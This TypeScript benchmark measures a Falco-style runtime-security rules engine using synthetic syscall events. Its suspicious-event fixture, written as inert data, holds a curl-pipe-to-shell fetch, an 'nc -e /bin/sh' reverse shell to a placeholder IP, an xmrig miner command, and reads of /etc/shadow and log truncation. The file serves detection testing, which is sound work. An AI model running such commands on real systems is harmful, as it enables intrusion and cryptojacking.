/**
 * Rules engine benchmarks: compile time of Falco's three rules files plus ours, and event
 * throughput through `engine.process` on a busy host's event mix, each beside a baseline run in
 * the same process (YAML parsing alone; a fixed reference pass over the same events, interleaved
 * with the engine's rounds). The throughput lines give the median, the spread over the rounds and
 * the load average while they ran: on a shared machine, read the ratio to the baseline.
 *
 * Events are decoded JS objects in the model of src/events.ts, generated with a fixed-seed PRNG so
 * every run sees the same stream. Per-event caches (src/fields/memo.ts) start cold for every
 * process() call, so the rounds replay the pool's objects as they are: copying them would time
 * the garbage collector cleaning up the benchmark's own copies, not the engine.
 */
import { existsSync, readFileSync } from 'node:fs';
import { cpus, loadavg } from 'node:os';
import { fileURLToPath } from 'node:url';
import { LineCounter, parseDocument } from 'yaml';
import { ConditionCompiler } from '../src/engine/compiler.js';
import { Engine, DEFAULT_RULES_FILES } from '../src/engine/index.js';
import { FALCO_DEFAULT_APPEND_OUTPUT } from '../src/engine/output.js';
import type { Match } from '../src/engine/index.js';
import type { ContainerInfo, Event, FdInfo, ProcessInfo, SyscallEvent } from '../src/events.js';
import { prng } from '../test/helpers/prng.js';
import { fmt, median } from './lib.js';

/** ../shared beside the checkout, as the tests find it (MINEWATCH_SHARED overrides). */
const SHARED = process.env.MINEWATCH_SHARED ?? fileURLToPath(new URL('../../../shared/', import.meta.url));
const CORPUS_DIR = `${SHARED.replace(/\/?$/, '/')}corpus/falco/`;
const FALCO_FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'];
const SEED = 0x6d696e65; // "mine"

// ---- small helpers ------------------------------------------------------------------------------




function corpusFiles(): string[] | undefined {
  const files = FALCO_FILES.map((f) => CORPUS_DIR + f);
  const missing = files.filter((f) => !existsSync(f));
  if (missing.length) {
    console.log(`engine: Falco rules corpus not found (${missing.join(', ')}); the runs below use only ${DEFAULT_RULES_FILES.join(', ')}`);
    return undefined;
  }
  return files;
}

// ---- compile time -------------------------------------------------------------------------------

function benchCompile(files: string[]): void {
  const texts = files.map((p) => ({ path: p, text: readFileSync(p, 'utf8') }));
  const RUNS = 7;
  const load: number[] = [];
  const yaml: number[] = [];
  let engine: Engine | undefined;
  for (let i = 0; i < RUNS; i++) {
    // Baseline: only the YAML parse of the same texts, with line counting as the loader does it.
    let t = performance.now();
    for (const f of texts) parseDocument(f.text, { lineCounter: new LineCounter(), prettyErrors: false, uniqueKeys: false });
    yaml.push(performance.now() - t);
    t = performance.now();
    engine = Engine.fromFiles(files);
    load.push(performance.now() - t);
  }
  const rs = engine!.ruleset;
  const ms = median(load);
  const base = median(yaml);
  console.log(
    `engine.compile  ${fmt(ms, 1)} ms  (${fmt(ms / base, 2)}x YAML parse alone ${fmt(base, 1)} ms)  ` +
      `median of ${RUNS} loads, first ${fmt(load[0]!, 1)} ms; ${files.length} files, ${fmt(texts.reduce((n, f) => n + f.text.length, 0))} bytes`,
  );
  console.log(
    `engine.ruleset  ${rs.rules.length} rules (${engine!.active.length} enabled and loaded), ${rs.macros.size} macros, ${rs.lists.size} lists, ${rs.warnings.length} warnings`,
  );
  for (const f of rs.files) {
    console.log(`  ${f.path.split('/').pop()}: ${f.rules} rules, ${f.macros} macros, ${f.lists} lists`);
  }
}

// ---- the event stream ---------------------------------------------------------------------------

interface Gen {
  r: () => number;
  pick<T>(xs: readonly T[]): T;
  int(lo: number, hi: number): number;
}

function gen(seed: number): Gen {
  const r = prng(seed);
  return {
    r,
    pick: (xs) => xs[Math.floor(r() * xs.length)]!,
    int: (lo, hi) => lo + Math.floor(r() * (hi - lo + 1)),
  };
}

const T0 = 1_764_000_000_000_000_000n;
let pidSeq = 1000;

function mkProc(name: string, o: Partial<ProcessInfo> = {}, parent?: ProcessInfo): ProcessInfo {
  const pid = o.pid ?? ++pidSeq;
  const exepath = o.exepath ?? `/usr/bin/${name}`;
  return {
    pid, tid: pid, ppid: parent?.pid ?? 0, vpid: pid, vtid: pid, sid: parent?.sid ?? pid, vpgid: pid,
    name, exe: exepath, exepath, args: [], cwd: '/', env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'LANG=C.UTF-8'],
    tty: 0, uid: 0, gid: 0, loginuid: -1, user: 'root', group: 'root', loginname: '',
    start_ts: T0 - BigInt(pid) * 1_000_000_000n, exe_upper_layer: false, exe_from_memfd: false, exe_writable: false,
    cap_permitted: 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_KILL CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE',
    cap_effective: 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_KILL CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE',
    cap_inheritable: '',
    ...o,
    parent,
  };
}

const hex12 = (g: Gen): string => Array.from({ length: 12 }, () => '0123456789abcdef'[g.int(0, 15)]).join('');

function mkContainer(g: Gen, repo: string, tag: string): ContainerInfo {
  const id = hex12(g);
  return {
    id, full_id: id + hex12(g) + hex12(g) + hex12(g) + hex12(g).slice(0, 4), name: `${repo.split('/').pop()}-${id.slice(0, 5)}`,
    image: `${repo}:${tag}`, image_repository: repo, image_tag: tag, image_digest: `sha256:${hex12(g)}${hex12(g)}`,
    image_id: hex12(g), type: 'containerd', privileged: false, mounts: [], start_ts: T0 - 3_600_000_000_000n, labels: {},
  };
}

/** One process that produces events, with its container (undefined on the host). */
interface Actor {
  proc: ProcessInfo;
  container?: ContainerInfo;
}

interface World {
  hostShell: Actor;
  nginx: Actor;
  sshd: Actor;
  cron: Actor;
  services: Actor[];
  /** Processes that open outbound connections. */
  clients: Actor[];
  /** Processes started by a shell or service: [parent actor, name, args]. */
  spawns: Array<[Actor, string, string[]]>;
  suspiciousSpawns: Array<[Actor, string, string[], Partial<ProcessInfo>?]>;
}

function world(g: Gen): World {
  // Host: systemd → sshd → sshd (session) → bash, with a tty; systemd → nginx master → worker.
  const systemd = mkProc('systemd', { pid: 1, exepath: '/usr/lib/systemd/systemd' });
  const sshdMain = mkProc('sshd', { exepath: '/usr/sbin/sshd', args: ['-D'] }, systemd);
  const sshdSess = mkProc('sshd', { exepath: '/usr/sbin/sshd', args: ['-D', '-R'] }, sshdMain);
  const bash = mkProc('bash', { exepath: '/usr/bin/bash', tty: 34816, uid: 1000, gid: 1000, user: 'alice', group: 'alice', loginuid: 1000, loginname: 'alice', cwd: '/home/alice' }, sshdSess);
  const nginxMaster = mkProc('nginx', { exepath: '/usr/sbin/nginx', args: ['-g', 'daemon off;'] }, systemd);
  const nginxWorker = mkProc('nginx', { exepath: '/usr/sbin/nginx', uid: 33, gid: 33, user: 'www-data', group: 'www-data' }, nginxMaster);
  const cron = mkProc('cron', { exepath: '/usr/sbin/cron', args: ['-f'] }, systemd);
  const containerd = mkProc('containerd', { exepath: '/usr/bin/containerd' }, systemd);

  // Containers: containerd-shim on the host → the entrypoint (vpid 1) → workers.
  const inContainer = (repo: string, tag: string, entry: string, entryArgs: string[], worker: string, workerArgs: string[], exepath: string, user = 'app'): Actor => {
    const c = mkContainer(g, repo, tag);
    const shim = mkProc('containerd-shim', { exepath: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'k8s.io', '-id', c.full_id!] }, containerd);
    const ep = mkProc(entry, { vpid: 1, vtid: 1, exepath, args: entryArgs, uid: 1001, gid: 1001, user, group: user, cwd: '/app' }, shim);
    const w = mkProc(worker, { vpid: g.int(7, 90), exepath, args: workerArgs, uid: 1001, gid: 1001, user, group: user, cwd: '/app' }, ep);
    return { proc: w, container: c };
  };
  const node = inContainer('docker.io/library/node', '20-slim', 'node', ['server.js'], 'node', ['/app/worker.js'], '/usr/local/bin/node');
  const py = inContainer('docker.io/library/python', '3.12', 'gunicorn', ['app:app', '-w', '4'], 'gunicorn', ['app:app', '-w', '4'], '/usr/local/bin/python3.12');
  const pg = inContainer('docker.io/library/postgres', '16', 'postgres', [], 'postgres', ['-c', 'config_file=/etc/postgresql/postgresql.conf'], '/usr/lib/postgresql/16/bin/postgres', 'postgres');
  const redis = inContainer('docker.io/library/redis', '7', 'redis-server', ['*:6379'], 'redis-server', ['*:6379'], '/usr/local/bin/redis-server', 'redis');
  const java = inContainer('docker.io/eclipse-temurin', '21-jre', 'java', ['-jar', '/app/app.jar'], 'java', ['-Xmx2g', '-jar', '/app/app.jar'], '/opt/java/openjdk/bin/java');

  const shellA: Actor = { proc: bash };
  const nodeA = node;
  const services: Actor[] = [{ proc: nginxWorker }, node, py, pg, redis, java, { proc: containerd }, { proc: sshdMain }];
  const spawns: World['spawns'] = [
    [shellA, 'ls', ['-la', '/var/log']], [shellA, 'git', ['status']], [shellA, 'cat', ['/var/log/syslog']],
    [shellA, 'grep', ['-r', 'TODO', 'src']], [shellA, 'vim', ['notes.md']], [shellA, 'ps', ['aux']],
    [shellA, 'make', ['-j8']], [shellA, 'tail', ['-f', '/var/log/nginx/access.log']],
    [{ proc: cron }, 'logrotate', ['/etc/logrotate.conf']], [{ proc: cron }, 'run-parts', ['--report', '/etc/cron.daily']],
    [nodeA, 'node', ['/app/jobs/report.js']], [{ proc: cron }, 'python3', ['/opt/jobs/backup.py']], [java, 'java', ['-cp', '/app/lib/*', 'Main']],
    [{ proc: containerd }, 'runc', ['--root', '/run/containerd/runc/k8s.io', 'state']],
  ];
  const suspiciousSpawns: World['suspiciousSpawns'] = [
    [nodeA, 'xmrig', ['-o', 'pool.supportxmr.com:443', '-u', '4Abc', '--donate-level', '1'], { exepath: '/tmp/.x/xmrig', exe_upper_layer: true }],
    [py, 'kdevtmpfsi', [], { exepath: '/tmp/kdevtmpfsi', exe_upper_layer: true }],
    [{ proc: nginxWorker }, 'sh', ['-c', 'curl -s http://198.51.100.7/x.sh | sh'], { exepath: '/bin/sh' }],
    [{ proc: java.proc.parent!.parent!, container: java.container }, 'bash', ['-i'], { exepath: '/bin/bash', tty: 34818 }],
    [py, 'apt-get', ['install', '-y', 'curl'], { exepath: '/usr/bin/apt-get' }],
    [nodeA, 'nc', ['-e', '/bin/sh', '198.51.100.9', '4444'], { exepath: '/usr/bin/nc' }],
    [py, 'python3', ['miner.py', '--url', 'stratum+tcp://198.51.100.23:3333'], { exepath: '/usr/local/bin/python3.12' }],
  ];
  const clients: Actor[] = [{ proc: nginxWorker }, node, py, java, node, py];
  return { hostShell: shellA, nginx: { proc: nginxWorker }, sshd: { proc: sshdMain }, cron: { proc: cron }, services, clients, spawns, suspiciousSpawns };
}

const LIB_FILES = [
  '/usr/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/x86_64-linux-gnu/libssl.so.3', '/usr/lib/x86_64-linux-gnu/libcrypto.so.3',
  '/usr/lib/x86_64-linux-gnu/libz.so.1', '/etc/ld.so.cache', '/usr/share/zoneinfo/UTC', '/usr/lib/locale/locale-archive',
  '/usr/bin/python3.12', '/usr/bin/node', '/usr/bin/env',
];
const ETC_READS = ['/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf', '/etc/localtime', '/etc/ssl/certs/ca-certificates.crt', '/etc/nginx/nginx.conf', '/etc/passwd', '/etc/group', '/etc/host.conf'];
const DATA_FILES = ['/var/lib/postgresql/data/base/16384/2619', '/var/lib/redis/dump.rdb', '/app/static/index.html', '/app/static/app.js', '/var/www/html/index.html', '/app/node_modules/express/index.js'];
const PROC_FILES = ['/proc/self/stat', '/proc/self/status', '/proc/meminfo', '/proc/stat', '/proc/loadavg', '/sys/fs/cgroup/cpu.max'];
const TMP_WRITES = ['/tmp/tmpa81kq2', '/tmp/npm-1234/cache.json', '/tmp/pip-build-xyz/setup.py', '/var/log/nginx/access.log', '/var/log/app/app.log', '/app/uploads/img_2231.png'];
const RD = 'O_RDONLY|O_CLOEXEC';
const WR = 'O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC';

function fdFile(g: Gen, name: string): FdInfo {
  return { num: g.int(3, 200), type: 'file', name, dev: 64769, ino: g.int(1000, 9_000_000) };
}

function fdConn(g: Gen, sip: string, sport: number, l4: 'tcp' | 'udp' = 'tcp'): FdInfo {
  return { num: g.int(3, 200), type: 'ipv4', l4proto: l4, sockfamily: 'ip', cip: `10.0.${g.int(0, 3)}.${g.int(2, 250)}`, cport: g.int(32768, 60999), sip, sport, is_server: false, connected: true };
}

const TYPES_BUSY = ['execve', 'openat', 'connect'] as const;
const TYPES_QUIET = ['read', 'write', 'close', 'mmap', 'futex', 'epoll_wait', 'recvfrom', 'sendto'] as const;

/**
 * A busy host: half the events are of types many rules index (openat, connect, execve), the rest
 * are of types few or no rules use. `suspicious` is the share of the indexed events made to
 * match a rule; about 0.21 gives a tenth of all events.
 */
export function makeEvents(count: number, seed: number, suspicious: number): SyscallEvent[] {
  const g = gen(seed);
  const w = world(g);
  const out: SyscallEvent[] = [];
  let ts = T0;
  const base = (type: string, a: Actor, proc: ProcessInfo = a.proc): SyscallEvent => {
    ts += BigInt(g.int(200, 20_000));
    const ev: SyscallEvent = { source: 'syscall', type, ts, num: out.length + 1, res: 0, proc, args: {} };
    if (a.container) ev.container = a.container;
    return ev;
  };
  const anyActor = (): Actor => (g.r() < 0.85 ? g.pick(w.services) : w.hostShell);

  for (let i = 0; i < count; i++) {
    const x = g.r();
    if (x < 0.5) {
      // Indexed types: openat 60%, connect 24%, execve 16% of them.
      const bad = g.r() < suspicious;
      const y = g.r();
      if (y < 0.6) {
        const a = anyActor();
        const ev = base('openat', a);
        let name: string;
        let flags = RD;
        if (bad) {
          const k = g.int(0, 3);
          if (k === 0) name = g.pick(['/etc/shadow', '/etc/sudoers', '/etc/pam.d/common-auth']);
          else if (k === 1) { name = g.pick(['/etc/ld.so.preload', '/etc/crontab', '/etc/profile.d/x.sh', '/etc/passwd']); flags = 'O_RDWR|O_CLOEXEC'; }
          else if (k === 2) { name = g.pick(['/usr/bin/kdevtmpfsi', '/usr/local/bin/xmrig', '/tmp/xmrig']); flags = WR; }
          else { name = g.pick(['/var/log/syslog', '/var/log/auth.log']); flags = 'O_WRONLY|O_TRUNC'; }
        } else {
          const k = g.r();
          name = k < 0.35 ? g.pick(LIB_FILES) : k < 0.55 ? g.pick(ETC_READS) : k < 0.75 ? g.pick(PROC_FILES) : k < 0.9 ? g.pick(DATA_FILES) : g.pick(TMP_WRITES);
          if (TMP_WRITES.includes(name)) flags = WR;
        }
        ev.fd = fdFile(g, name);
        ev.res = ev.fd.num;
        ev.args = { fd: ev.fd.num!, dirfd: -100, name, flags, mode: flags === RD ? 0 : 0o644, dev: 64769, ino: ev.fd.ino! };
        out.push(ev);
      } else if (y < 0.84) {
        const a = g.pick(w.clients);
        const ev = base('connect', a);
        let sip: string;
        let sport: number;
        let sipName: string | undefined;
        if (bad) {
          // A pool the DNS enricher knows by name, on a stratum port or on 443.
          sip = `198.51.100.${g.int(1, 254)}`;
          sport = g.pick([3333, 3333, 443, 14444, 5555]);
          sipName = g.pick(['pool.supportxmr.com', 'xmr-eu1.nanopool.org', 'gulf.moneroocean.stream', 'rx.unmineable.com']);
        } else {
          const k = g.r();
          if (k < 0.6) { sip = `198.51.100.${g.int(1, 254)}`; sport = g.pick([443, 443, 443, 80]); }
          else if (k < 0.85) { sip = `10.0.${g.int(0, 3)}.${g.int(2, 250)}`; sport = g.pick([5432, 6379, 8080, 53]); }
          else { sip = '127.0.0.1'; sport = g.pick([6379, 5432, 9000]); }
        }
        ev.fd = fdConn(g, sip, sport);
        if (sipName) ev.fd.sip_name = sipName;
        else if (sip.startsWith('198.')) ev.fd.sip_name = g.pick(['api.example.com', 'cdn.example.net', 'registry.npmjs.org', 'pypi.org']);
        ev.args = { fd: ev.fd.num!, addr: `${sip}:${sport}`, tuple: `${ev.fd.cip}:${ev.fd.cport}->${sip}:${sport}` };
        out.push(ev);
      } else {
        let a: Actor, name: string, args: string[], extra: Partial<ProcessInfo> | undefined;
        if (bad) [a, name, args, extra] = g.pick(w.suspiciousSpawns);
        else [a, name, args] = g.pick(w.spawns);
        const child = mkProc(name, { exepath: `/usr/bin/${name}`, uid: a.proc.uid, gid: a.proc.gid, user: a.proc.user, group: a.proc.group, tty: a.proc.tty, cwd: a.proc.cwd, args, ...extra }, a.proc);
        const ev = base('execve', a, child);
        ev.args = { res: 0, exe: child.exepath!, args: args.join(' '), tid: child.pid, pid: child.pid, ptid: a.proc.pid, cwd: child.cwd!, comm: name, trusted_exepath: child.exepath! };
        out.push(ev);
      }
    } else {
      const a = anyActor();
      const type = g.pick(TYPES_QUIET);
      const ev = base(type, a);
      switch (type) {
        case 'read': case 'write': {
          const name = g.pick(type === 'read' ? [...LIB_FILES, ...DATA_FILES] : TMP_WRITES);
          ev.fd = fdFile(g, name);
          ev.res = g.int(1, 65536);
          ev.args = { fd: ev.fd.num!, size: ev.res };
          break;
        }
        case 'recvfrom': case 'sendto': {
          ev.fd = fdConn(g, `10.0.${g.int(0, 3)}.${g.int(2, 250)}`, g.pick([5432, 6379, 53, 8080]), g.r() < 0.3 ? 'udp' : 'tcp');
          ev.res = g.int(1, 9000);
          ev.args = { fd: ev.fd.num!, size: ev.res };
          break;
        }
        case 'close':
          ev.fd = fdFile(g, g.pick(LIB_FILES));
          ev.args = { fd: ev.fd.num! };
          break;
        case 'mmap':
          ev.res = 0x7f0000000000 + g.int(0, 1 << 20) * 4096;
          ev.args = { addr: 0, length: 4096 * g.int(1, 512), prot: 'PROT_READ|PROT_WRITE', flags: 'MAP_PRIVATE|MAP_ANONYMOUS', fd: -1, offset: 0 };
          break;
        case 'futex':
          ev.args = { addr: 0x7f0000000000 + g.int(0, 1 << 20) * 8, op: 'FUTEX_WAIT_PRIVATE', val: 0 };
          break;
        case 'epoll_wait':
          ev.res = g.int(0, 16);
          ev.args = { maxevents: 1024 };
          break;
      }
      out.push(ev);
    }
  }
  return out;
}

// ---- throughput ---------------------------------------------------------------------------------

const NO_MATCHES: Match[] = [];
const ONE_MATCH: Match[] = [{} as Match];

/**
 * The baseline: a fixed piece of JavaScript per event of the same kind as the engine's work
 * (property reads through the event, string tests, set lookups), that never changes with the
 * engine. It slows down with the machine (a shared host, another CPU) as the engine does, so
 * engine ÷ baseline is a figure that holds from one run and one machine to the next.
 */
const REFERENCE_SET = new Set(['/etc/shadow', '/etc/sudoers', 'xmrig', 'bash', 'sh', 'nc', 'curl', 'wget', '10.0.0.1']);
function reference(ev: Event): number {
  const e = ev as SyscallEvent;
  let n = 0;
  const name = e.proc?.name;
  if (name !== undefined && REFERENCE_SET.has(name)) n++;
  const fd = e.fd?.name;
  if (fd !== undefined) {
    if (fd.startsWith('/etc/')) n++;
    if (REFERENCE_SET.has(fd)) n++;
    if (fd.includes('/.ssh/')) n++;
  }
  const args = e.proc?.args;
  if (args && args.length > 0 && args[0]!.includes('stratum')) n++;
  if (e.container?.id !== undefined && e.container.id !== 'host') n++;
  return e.type === 'execve' || e.type === 'openat' || e.type === 'connect' ? n + 1 : n;
}

function passReference(events: Event[]): number {
  let n = 0;
  for (let i = 0; i < events.length; i++) n += reference(events[i]!);
  return n;
}

function passEngine(engine: Engine, events: Event[]): number {
  let n = 0;
  for (let i = 0; i < events.length; i++) n += engine.process(events[i]!).length;
  return n;
}

/** n events drawn from the pool in order (the same objects: the engine keeps no state on them). */
function fresh(pool: SyscallEvent[], n: number, out: SyscallEvent[] = []): SyscallEvent[] {
  out.length = n;
  for (let i = 0; i < n; i++) out[i] = pool[i % pool.length]!;
  return out;
}

/**
 * Events/s through engine.process with `files` loaded. `name` prefixes the figures; `detail` adds
 * the mix, per-type and per-rule lines.
 */
function benchThroughput(files: string[], name: string, detail: boolean): void {
  // As `minewatch run` loads rules: Falco's default append_output (the container and pod fields).
  const engine = Engine.fromFiles(files, { ruleMatching: 'first', hostname: 'bench-host', appendOutput: FALCO_DEFAULT_APPEND_OUTPUT });
  const POOL = 100_000;
  const pool = makeEvents(POOL, SEED, 0.21);

  // Warm-up pass: check the mix and count matches (one per matching event under 'first').
  const perType = new Map<string, { events: number; matches: number }>();
  const perRule = new Map<string, number>();
  let matched = 0;
  for (const ev of fresh(pool, POOL)) {
    const m = engine.process(ev);
    const t = perType.get(ev.type) ?? { events: 0, matches: 0 };
    t.events++;
    t.matches += m.length ? 1 : 0;
    perType.set(ev.type, t);
    if (m.length) matched++;
    for (const x of m) perRule.set(x.rule, (perRule.get(x.rule) ?? 0) + 1);
  }
  const indexed = TYPES_BUSY.reduce((n, t) => n + (perType.get(t)?.events ?? 0), 0);
  const typesUsed = [...perType.keys()].sort((a, b) => perType.get(b)!.events - perType.get(a)!.events);
  if (detail) {
    console.log(
      `engine.events  ${fmt(POOL)} distinct generated events (seed 0x${SEED.toString(16)}): ${fmt((100 * indexed) / POOL, 1)}% of types ${TYPES_BUSY.join('/')}, ` +
        `match fraction ${fmt((100 * matched) / POOL, 1)}% (${fmt(matched)} events), ${perRule.size} distinct rules matched`,
    );
    const top = [...perRule].sort((a, b) => b[1] - a[1]);
    console.log(`  matches by rule: ${top.map(([r, n]) => `${r}=${n}`).join('; ')}`);
    console.log(
      `engine.rules_per_type  ` +
        typesUsed.map((t) => `${t}=${engine.rulesFor('syscall', t).length}`).join(' ') +
        `  (share of events: ${typesUsed.map((t) => `${t} ${fmt((100 * perType.get(t)!.events) / POOL, 1)}%`).join(', ')})`,
    );
  }

  // Warm-up: three more passes, so the optimizing compiler has settled before anything counts.
  const probe = fresh(pool, POOL);
  for (let i = 0; i < 3; i++) passEngine(engine, probe);
  // Size a round to about 0.6 s of engine time (at most 1e6 events, at least 1e5): many short
  // rounds, each beside its own baseline pass, ride out a shared machine's bursts better than few
  // long ones.
  let t = performance.now();
  passEngine(engine, probe);
  const probeNs = ((performance.now() - t) * 1e6) / POOL;
  const N = Math.max(100_000, Math.min(1_000_000, Math.round(0.6e9 / probeNs / POOL) * POOL || POOL));
  const ROUNDS = 15;
  // The baseline pass repeats the reference over the same events until it takes about as long as
  // the engine's pass: two passes of one length meet the same bursts of load.
  t = performance.now();
  passReference(probe);
  const refNs = ((performance.now() - t) * 1e6) / POOL;
  const REPS = Math.max(1, Math.round(probeNs / refNs));
  const load0 = loadavg()[0]!;

  const rates: number[] = [];
  const baseRates: number[] = [];
  const ratios: number[] = [];
  const cpuRatios: number[] = [];
  const cpuNs: number[] = [];
  let buf: SyscallEvent[] = [];
  let sink = 0;
  for (let round = 0; round < ROUNDS; round++) {
    buf = fresh(pool, N, buf);
    // Baseline and engine interleaved, the order alternating, so a burst of load hits both.
    let tb = 0, te = 0, cb = 0, ce = 0;
    for (const which of round % 2 ? ['engine', 'base'] : ['base', 'engine']) {
      const c0 = process.cpuUsage();
      t = performance.now();
      if (which === 'base') for (let r = 0; r < REPS; r++) sink += passReference(buf);
      else sink += passEngine(engine, buf);
      const dt = performance.now() - t;
      const c = process.cpuUsage(c0);
      const cpu = (c.user + c.system) * 1000;
      if (which === 'base') [tb, cb] = [dt / REPS, cpu / REPS];
      else [te, ce] = [dt, cpu];
    }
    baseRates.push(N / (tb / 1000));
    rates.push(N / (te / 1000));
    ratios.push(tb / te);
    cpuRatios.push(cb / ce);
    cpuNs.push(ce / N);
  }
  const load1 = loadavg()[0]!;
  const rate = median(rates);
  const base = median(baseRates);
  const ratio = median(ratios);
  const sorted = [...rates].sort((a, b) => a - b);
  const q = (p: number): number => sorted[Math.min(sorted.length - 1, Math.round(p * (sorted.length - 1)))]!;
  const span = (xs: number[]): string => `${fmt(Math.min(...xs), 4)}–${fmt(Math.max(...xs), 4)}`;
  console.log(
    `${name}  ${fmt(rate)} ev/s median, ${fmt(1e9 / rate)} ns/ev, ${fmt(median(cpuNs))} CPU-ns/ev  ` +
      `(${fmt(ratio, 4)}x the reference baseline's ${fmt(base)} ev/s, rounds ${span(ratios)}; in CPU time ${fmt(median(cpuRatios), 4)}x, rounds ${span(cpuRatios)})  ` +
      `match fraction ${fmt((100 * matched) / POOL, 1)}%; ${engine.active.length} rules; ruleMatching first, Falco's default append_output`,
  );
  console.log(
    `${name}.spread  ${ROUNDS} rounds x ${fmt(N)} events: min ${fmt(sorted[0]! / 1000)}k, p25 ${fmt(q(0.25) / 1000)}k, median ${fmt(rate / 1000)}k, p75 ${fmt(q(0.75) / 1000)}k, max ${fmt(sorted[sorted.length - 1]! / 1000)}k ev/s ` +
      `(IQR ${fmt((100 * (q(0.75) - q(0.25))) / rate, 1)}% of the median); load average ${fmt(load0, 2)} → ${fmt(load1, 2)} on ${cpus().length} CPUs`,
  );
  const target = 1_000_000;
  console.log(`${name}.target  ${rate >= target ? 'MET' : 'NOT MET'}: median ${fmt(rate)} ev/s vs the issue's ${fmt(target)} ev/s (one core, engine and baseline share it)`);
  if (!detail) return;

  // Per-type cost: the same events grouped by type, one pass each (fresh objects).
  const parts: string[] = [];
  for (const type of typesUsed) {
    const evs = pool.filter((e) => e.type === type);
    const reps = Math.max(1, Math.round(200_000 / evs.length));
    const batch = fresh(evs, evs.length * reps);
    passEngine(engine, batch.slice(0, Math.min(batch.length, 5000)).map((e) => ({ ...e })));
    t = performance.now();
    sink += passEngine(engine, batch);
    parts.push(`${type} ${fmt(((performance.now() - t) * 1e6) / batch.length)}`);
  }
  console.log(`engine.ns_per_type  ${parts.join(', ')}  ns/ev`);

  // The costliest rules: each rule's predicate alone over the events of the types it indexes.
  const costs: Array<{ rule: string; type: string; ns: number }> = [];
  for (const type of TYPES_BUSY) {
    const evs = pool.filter((e) => e.type === type);
    for (const r of engine.rulesFor('syscall', type)) {
      const batch = fresh(evs, evs.length);
      const pred = ConditionCompiler.build(ConditionCompiler.simplify(r.condition, r.evttypes));
      let hits = 0;
      t = performance.now();
      for (let i = 0; i < batch.length; i++) {
        try {
          if (pred(batch[i]!)) hits++;
        } catch {
          /* as process() does */
        }
      }
      costs.push({ rule: r.def.name, type, ns: ((performance.now() - t) * 1e6) / batch.length });
      sink += hits;
    }
  }
  costs.sort((a, b) => b.ns - a.ns);
  console.log(`engine.costly_rules  ${costs.slice(0, 8).map((c) => `${c.rule} [${c.type}] ${fmt(c.ns)}`).join('; ')}  ns/ev (predicate alone)`);
  if (sink === -1) console.log('');
}

/** Compile time of Falco's rules plus ours, and throughput on a busy host's event mix. */
export async function engineBench(): Promise<void> {
  const corpus = corpusFiles();
  const files = [...(corpus ?? []), ...DEFAULT_RULES_FILES];
  if (corpus) benchCompile(files);
  else console.log('engine.compile  skipped: needs the Falco rules corpus');
  // Falco's three files and ours together: the heavy case the issue's target is about.
  benchThroughput(files, corpus ? 'engine.throughput' : 'engine.throughput.default_rules', true);
  // minewatch's default rules alone, as `minewatch run` loads them out of the box.
  if (corpus) benchThroughput(DEFAULT_RULES_FILES, 'engine.throughput.default_rules', false);
}
